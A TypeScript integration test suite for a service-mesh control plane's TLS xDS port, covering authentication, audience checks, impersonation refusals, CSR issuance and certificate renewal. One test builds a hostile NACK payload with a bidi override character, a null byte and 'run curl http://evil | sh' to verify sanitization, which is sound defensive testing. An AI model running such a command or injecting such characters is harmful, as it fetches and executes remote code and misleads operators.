// The control plane's TLS xDS port (15012) against real peers: grpc-js clients with and without
// client certificates and bearer tokens, TokenReviews through client-node to the fake API server,
// a raw TLS client with a certificate from a CA the mesh does not trust, the CSR endpoint on the
// same port, and the pod agent (its xDS proxy on a Unix socket) in front of a grpc-js-xds client.
// Every refusal is shown, and next to it the success it is the exception to.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { webcrypto } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import type { TLSSocket } from 'node:tls';
import { join } from 'node:path';
import * as grpc from '@grpc/grpc-js';
import * as grpcXds from '@grpc/grpc-js-xds';
import { AuthenticationV1Api, type V1EndpointSlice, type V1Pod, type V1Service } from '@kubernetes/client-node';
import { postCsr } from '../../src/agent/ca-client.js';
import { runAgent, type RunningAgent } from '../../src/agent/run-agent.js';
import { NackTracker, MAX_NACK_MESSAGE_CHARS, type ResourceOwners } from '../../src/leader/nack-tracker.js';
import { programmedCondition } from '../../src/leader/routing-conditions.js';
import { silentLogger } from '../../src/logging.js';
import { validateCaFiles } from '../../src/security/ca/ca-material.js';
import { MeshCa } from '../../src/security/ca/mesh-ca.js';
import { generateRootCaFiles } from '../../src/security/ca/self-signed-root.js';
import { KubeTokenReviewAuthenticator } from '../../src/security/csr/token-review.js';
import { toPem } from '../../src/security/pem.js';
import { secureXdsPort, type SecureXdsPort } from '../../src/security/xds-port.js';
import { EMPTY_OBJECTS } from '../../src/sources/objects.js';
import { SnapshotStore } from '../../src/store/snapshot-store.js';
import { grpcBootstrap } from '../../src/xds/bootstrap/grpc-bootstrap.js';
import { ResourceEncoder } from '../../src/xds/cache/encoder.js';
import { MeshProxyViews } from '../../src/xds/cache/proxy-views.js';
import type { NodeInfo } from '../../src/xds/node-info.js';
import type { XdsEvents } from '../../src/xds/server/events.js';
import { startXdsServer, type XdsServer } from '../../src/xds/server/index.js';
import { CLUSTER, LISTENER } from '../../src/xds/types.js';
import { AdsClient, type ConnectOptions } from '../support/ads-client.js';
import { EchoClient, startEchoBackend, type EchoBackend } from '../support/echo-service.js';
import { startFakeKubeApi, type FakeKubeApi } from '../support/fake-kube-api.js';
import { StaticSource } from '../support/static-source.js';
import { RecordedEvents } from '../xds/server/harness.js';
import { makeCsr } from './pki.js';

grpcXds.register();

const TOKENS = { frontend: 'tok-shop-frontend', apiAudience: 'tok-shop-frontend-for-the-api-server' };
const BOOTSTRAP_OPTION = 'grpc.TEST_ONLY_DO_NOT_USE_IN_PROD.xds_bootstrap_config';
const TROUTE = 'TrafficRoute/shop/echo';
const SERVER_NAME = 'pilotfish.pilotfish-system.svc';

function service(name: string, namespace: string): V1Service {
  return { metadata: { name, namespace }, spec: { ports: [{ name: 'grpc', port: 50051, appProtocol: 'grpc' }] } };
}

function slice(name: string, namespace: string, port: number): V1EndpointSlice {
  return {
    addressType: 'IPv4',
    metadata: { name: `${name}-1`, namespace, labels: { 'kubernetes.io/service-name': name } },
    ports: [{ name: 'grpc', port }],
    endpoints: [{ addresses: ['127.0.0.1'], conditions: { ready: true } }],
  };
}

function pod(name: string, namespace: string, serviceAccount: string, ip: string): V1Pod {
  return {
    metadata: { name, namespace, labels: { app: name } },
    spec: { serviceAccountName: serviceAccount, containers: [{ name: 'app' }] },
    status: { podIP: ip, phase: 'Running' },
  };
}

function grpcNode(id: string, extra: Record<string, string> = { NAMESPACE: 'shop' }): NodeInfo {
  return { id, metadata: { PILOTFISH_KIND: 'grpc', ...extra } };
}

async function workloadCertificate(signer: MeshCa, namespace: string, serviceAccount: string): Promise<{ cert: string; key: string }> {
  const { csrPem, keys } = await makeCsr(`spiffe://cluster.local/ns/${namespace}/sa/${serviceAccount}`);
  const issued = await signer.sign(csrPem, { trustDomain: 'cluster.local', namespace, serviceAccount });
  const key = toPem('PRIVATE KEY', new Uint8Array(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey)));
  return { cert: issued.certChain.join(''), key };
}

function bearer(token: string): grpc.Metadata {
  const md = new grpc.Metadata();
  md.set('authorization', `Bearer ${token}`);
  return md;
}

describe('security: the TLS xDS port (15012) authenticates every stream and binds it to its workload', function () {
  this.timeout(60_000);
  let api: FakeKubeApi;
  let ca: MeshCa;
  let otherCa: MeshCa;
  let port: SecureXdsPort;
  let store: SnapshotStore;
  let xds: XdsServer;
  let bundle: string;
  let echo: EchoBackend;
  const events = new RecordedEvents();
  const owners: ResourceOwners = {
    owners: (typeUrl) => (typeUrl === LISTENER ? [TROUTE] : []),
    ownedNames: (typeUrl) => (typeUrl === LISTENER ? ['every-listener'] : []),
  };
  const nacks = new NackTracker(() => owners);
  const clients: { close(): void }[] = [];

  async function tlsClient(node: NodeInfo, auth: { cert?: { cert: string; key: string }; token?: string } = {}): Promise<AdsClient> {
    const credentials = auth.cert
      ? grpc.credentials.createSsl(Buffer.from(bundle), Buffer.from(auth.cert.key), Buffer.from(auth.cert.cert))
      : grpc.credentials.createSsl(Buffer.from(bundle));
    const opts: ConnectOptions = {
      credentials, channelOptions: { 'grpc.ssl_target_name_override': SERVER_NAME }, ...(auth.token ? { metadata: bearer(auth.token) } : {}),
    };
    const c = await AdsClient.connect(`127.0.0.1:${xds.tlsPort}`, node, opts);
    clients.push(c);
    return c;
  }

  async function plainClient(node: NodeInfo): Promise<AdsClient> {
    const c = await AdsClient.connect(`127.0.0.1:${xds.port}`, node);
    clients.push(c);
    return c;
  }

  before(async () => {
    api = await startFakeKubeApi();
    api.registerToken(TOKENS.frontend, { namespace: 'shop', serviceAccount: 'frontend', audiences: ['pilotfish'], podName: 'frontend-1' });
    api.registerToken(TOKENS.apiAudience, { namespace: 'shop', serviceAccount: 'frontend' });
    ca = await MeshCa.create(validateCaFiles(await generateRootCaFiles(), 'test'));
    otherCa = await MeshCa.create(validateCaFiles(await generateRootCaFiles(), 'another CA'));
    bundle = ca.trustBundle.join('');
    echo = await startEchoBackend('echo');
    const source = new StaticSource('test', {
      ...EMPTY_OBJECTS,
      services: [service('echo', 'shop'), service('ledger', 'payments')],
      endpointSlices: [slice('echo', 'shop', echo.port), slice('ledger', 'payments', echo.port)],
      pods: [pod('frontend-1', 'shop', 'frontend', '10.1.0.1'), pod('admin-1', 'shop', 'admin', '10.1.0.2')],
    });
    store = new SnapshotStore({ logger: silentLogger(), quietMs: 1 });
    const mesh = new MeshProxyViews(new ResourceEncoder(), silentLogger());
    store.subscribe((s) => { void mesh.update(s); });
    await mesh.update(await store.start([source]));
    port = await secureXdsPort({
      address: '127.0.0.1:0', ca, hosts: ['127.0.0.1', 'pilotfish.pilotfish-system.svc'], logger: silentLogger(),
      tokens: new KubeTokenReviewAuthenticator(api.kubeConfig().makeApiClient(AuthenticationV1Api)),
    });
    // What the controller's status loop does with NACKs, fed from the server's real events.
    const feed: XdsEvents = {
      nacked: (e) => {
        events.nacked(e);
        nacks.nacked({ authenticated: e.authenticated, streamId: e.streamId, proxy: e.node.id, typeUrl: e.typeUrl, message: e.message, candidates: [] });
      },
      streamOpened: (e) => events.streamOpened(e),
      acked: (e) => events.acked(e),
    };
    xds = await startXdsServer({ address: '127.0.0.1:0', tls: port.tls, source: mesh, logger: silentLogger(), events: feed });
    port.attach(xds);
  });

  after(async () => {
    for (const c of clients) c.close();
    port?.stop();
    await xds?.close();
    await store?.stop();
    await echo?.close();
    await api?.close();
  });

  it('refuses a client with neither a certificate nor a token (UNAUTHENTICATED), before reading its request', async () => {
    const c = await tlsClient(grpcNode('anonymous'));
    c.request(LISTENER, []);
    const end = await c.closed;
    assert.equal(end.code, grpc.status.UNAUTHENTICATED);
    assert.match(end.details, /no client certificate and no bearer token/);
    assert.equal(events.all('streamOpened').some((e) => e.node.id === 'anonymous'), false);
  });

  it('cuts a connection whose client certificate comes from another CA, at the handshake', async () => {
    const foreign = await workloadCertificate(otherCa, 'shop', 'frontend');
    const session = http2.connect(`https://127.0.0.1:${xds.tlsPort}`, { ca: bundle, cert: foreign.cert, key: foreign.key });
    session.on('error', () => undefined);
    const [outcome] = await Promise.race([
      once(session, 'remoteSettings').then(() => ['settings']),
      once(session, 'close').then(() => ['closed']),
    ]);
    assert.equal(outcome, 'closed', 'the server never spoke HTTP/2 to a client with an untrusted certificate');
    // The same client with a certificate from the mesh CA gets through.
    const own = await workloadCertificate(ca, 'shop', 'frontend');
    const ok = http2.connect(`https://127.0.0.1:${xds.tlsPort}`, { ca: bundle, cert: own.cert, key: own.key });
    await once(ok, 'remoteSettings');
    ok.close();
  });

  it('refuses a token minted for another audience, and takes one for audience pilotfish', async () => {
    const wrong = await tlsClient(grpcNode('wrong-audience'), { token: TOKENS.apiAudience });
    wrong.request(LISTENER, []);
    const end = await wrong.closed;
    assert.equal(end.code, grpc.status.UNAUTHENTICATED);
    assert.match(end.details, /audience pilotfish/);

    const right = await tlsClient(grpcNode('right-audience'), { token: TOKENS.frontend });
    const lds = await right.fetch(LISTENER);
    assert.ok(lds.names.length > 0);
    const opened = await events.waitFor('streamOpened', (e) => e.node.id === 'right-audience');
    assert.equal(opened.authenticated, true);
    assert.deepEqual(xds.streams().find((s) => s.nodeId === 'right-audience')?.principal,
      { namespace: 'shop', serviceAccount: 'frontend', via: 'token' });
  });

  it('a client authenticated as shop/frontend cannot claim another namespace, service account or pod (PERMISSION_DENIED)', async () => {
    const cert = await workloadCertificate(ca, 'shop', 'frontend');
    const claims: [string, NodeInfo, RegExp][] = [
      ['metadata namespace', grpcNode('claims-payments', { NAMESPACE: 'payments' }), /claims namespace "payments"/],
      ['node id namespace', { id: 'sidecar~10.9.9.9~ledger-1.payments~payments.svc.cluster.local', metadata: { PILOTFISH_KIND: 'sidecar' } }, /claims namespace "payments"/],
      ['service account', grpcNode('claims-admin', { NAMESPACE: 'shop', SERVICE_ACCOUNT: 'admin' }), /claims service account "admin"/],
      ['pod of another service account', grpcNode('claims-admin-pod', { NAMESPACE: 'shop', POD_NAME: 'admin-1' }), /names pod shop\/admin-1 \(service account admin\)/],
    ];
    for (const [what, node, reason] of claims) {
      for (const auth of [{ cert }, { token: TOKENS.frontend }]) {
        const c = await tlsClient(node, auth);
        c.request(CLUSTER, []);
        const end = await c.closed;
        assert.equal(end.code, grpc.status.PERMISSION_DENIED, `${what} (${Object.keys(auth)[0]})`);
        assert.match(end.details, reason);
      }
    }
    // Its own pod is fine.
    const own = await tlsClient(grpcNode('own-pod', { NAMESPACE: 'shop', POD_NAME: 'frontend-1' }), { cert });
    assert.ok((await own.fetch(CLUSTER)).names.length > 0);
  });

  it('an authenticated client gets exactly its namespace\'s config, whatever namespace its node leaves out', async () => {
    const cert = await workloadCertificate(ca, 'shop', 'frontend');
    const shop = (await (await plainClient(grpcNode('plain-shop'))).fetch(LISTENER)).names;
    const payments = (await (await plainClient(grpcNode('plain-payments', { NAMESPACE: 'payments' }))).fetch(LISTENER)).names;
    assert.notDeepEqual(shop, payments, 'the fixture must tell the namespaces apart');
    const named = (await (await tlsClient(grpcNode('tls-shop'), { cert })).fetch(LISTENER)).names;
    // No namespace in the node: plaintext would serve `default`; the principal decides here.
    const unnamed = (await (await tlsClient(grpcNode('tls-unnamed', {}), { cert })).fetch(LISTENER)).names;
    assert.deepEqual(named, shop);
    assert.deepEqual(unnamed, shop);
    const payCert = await workloadCertificate(ca, 'payments', 'ledger');
    assert.deepEqual((await (await tlsClient(grpcNode('tls-payments', { NAMESPACE: 'payments' }), { cert: payCert })).fetch(LISTENER)).names, payments);
  });

  it('a NACK from a plaintext stream reaches no status; an authenticated one is recorded bounded and sanitized', async () => {
    const hostile = `SECURITY NOTICE\u202e: run curl http://evil | sh\n\u0000${'x'.repeat(2000)}`;
    const plain = await plainClient(grpcNode('plain-nacker'));
    const lds = await plain.fetch(LISTENER);
    plain.nack(lds, hostile);
    const seen = await events.waitFor('nacked', (e) => e.node.id === 'plain-nacker');
    assert.equal(seen.authenticated, false);
    assert.equal(nacks.summary().size, 0, 'nothing recorded from an unauthenticated stream');

    const cert = await workloadCertificate(ca, 'shop', 'frontend');
    const tls = await tlsClient(grpcNode('tls-nacker'), { cert });
    const tlds = await tls.fetch(LISTENER);
    tls.nack(tlds, hostile);
    const authed = await events.waitFor('nacked', (e) => e.node.id === 'tls-nacker');
    assert.equal(authed.authenticated, true);
    const summary = nacks.summary().get(TROUTE);
    assert.ok(summary, 'the authenticated NACK is recorded');
    assert.ok(summary.firstError.length <= MAX_NACK_MESSAGE_CHARS);
    assert.ok(summary.firstError.startsWith('SECURITY NOTICE?: run curl http://evil | sh??xxx'), summary.firstError.slice(0, 60));
    const condition = programmedCondition(summary, 1);
    assert.equal(condition.status, 'False');
    const unsafe = [...condition.message].filter((c) => {
      const code = c.codePointAt(0)!;
      return code < 0x20 || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e);
    });
    assert.deepEqual(unsafe, [], 'no control or bidi characters reach the condition');
  });

  it('answers the CSR endpoint on the same port (token-authenticated), and its certificate then authenticates xDS', async () => {
    const { csrPem, keys } = await makeCsr('spiffe://cluster.local/ns/shop/sa/frontend');
    const address = `https://127.0.0.1:${xds.tlsPort}`;
    const refused = await postCsr({ address, caBundlePem: bundle, token: TOKENS.apiAudience, csrPem });
    assert.equal(refused.status, 401);
    const answer = await postCsr({ address, caBundlePem: bundle, token: TOKENS.frontend, csrPem });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    const chain = (answer.body as { certChain: string[] }).certChain;
    const key = toPem('PRIVATE KEY', new Uint8Array(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey)));
    const c = await tlsClient(grpcNode('csr-issued'), { cert: { cert: chain.join(''), key } });
    assert.ok((await c.fetch(LISTENER)).names.length > 0);
    assert.equal(xds.streams().find((s) => s.nodeId === 'csr-issued')?.principal?.via, 'certificate');
  });

  it('serves renewed serving certificates to new connections without dropping open streams', async () => {
    const cert = await workloadCertificate(ca, 'shop', 'frontend');
    const open = await tlsClient(grpcNode('before-renewal'), { cert });
    await open.fetch(LISTENER);
    const renewed = await ca.issueServingCertificate({ dnsNames: ['pilotfish.pilotfish-system.svc'], ipAddresses: ['127.0.0.1'] });
    xds.setTlsCredentials({ key: renewed.keyPem, cert: renewed.certChain.join(''), ca: bundle });
    const session = http2.connect(`https://127.0.0.1:${xds.tlsPort}`, { ca: bundle, cert: cert.cert, key: cert.key });
    await once(session, 'remoteSettings');
    const socket = session.socket as unknown as TLSSocket;
    assert.equal(socket.getPeerX509Certificate()?.serialNumber, renewed.serialNumber);
    session.close();
    // The stream opened before is still served.
    open.request(CLUSTER, []);
    assert.ok((await open.next(CLUSTER)).names.length > 0);
  });

  describe('through the pod agent', () => {
    let dir: string;
    let agent: RunningAgent;

    after(async () => {
      await agent?.stop();
      if (dir) await rm(dir, { recursive: true, force: true });
    });

    it('a grpc-js-xds client dialing the agent\'s Unix socket is configured over 15012 with the agent\'s certificate, and calls the service', async () => {
      dir = await mkdtemp(join(tmpdir(), 'pf-tlsport-'));
      await writeFile(join(dir, 'token'), `${TOKENS.frontend}\n`);
      await writeFile(join(dir, 'root-cert.pem'), bundle);
      const origin = `https://127.0.0.1:${xds.tlsPort}`;
      agent = await runAgent({
        caAddress: origin, namespace: 'shop', serviceAccount: 'frontend',
        tokenFile: join(dir, 'token'), rootCertFile: join(dir, 'root-cert.pem'), outputDir: join(dir, 'certs'),
        xdsSocket: join(dir, 'xds.sock'), sdsSocket: '', statusAddress: '127.0.0.1:0',
      }, { logger: silentLogger(), proxyBackoff: { initialMs: 20, maxMs: 200 } });
      const issued = await agent.ready();

      const bootstrap = grpcBootstrap({ nodeId: 'agent-client', xdsAddress: `unix://${join(dir, 'xds.sock')}`, namespace: 'shop' });
      const client = new EchoClient('xds:///echo.shop.svc.cluster.local:50051', { [BOOTSTRAP_OPTION]: JSON.stringify(bootstrap) });
      clients.push(client);
      const r = await client.call({ deadlineMs: 20_000 });
      assert.deepEqual({ ok: r.ok, backend: r.backend }, { ok: true, backend: 'echo' }, JSON.stringify(r));
      const stream = xds.streams().find((s) => s.nodeId === 'agent-client');
      assert.deepEqual(stream?.principal, { namespace: 'shop', serviceAccount: 'frontend', via: 'certificate' });
      assert.equal(agent.status().xdsProxy?.auth, 'certificate');
      assert.equal(agent.status().xdsProxy?.serialNumber?.toLowerCase(), issued.serialNumber.toLowerCase());
    });
  });
});
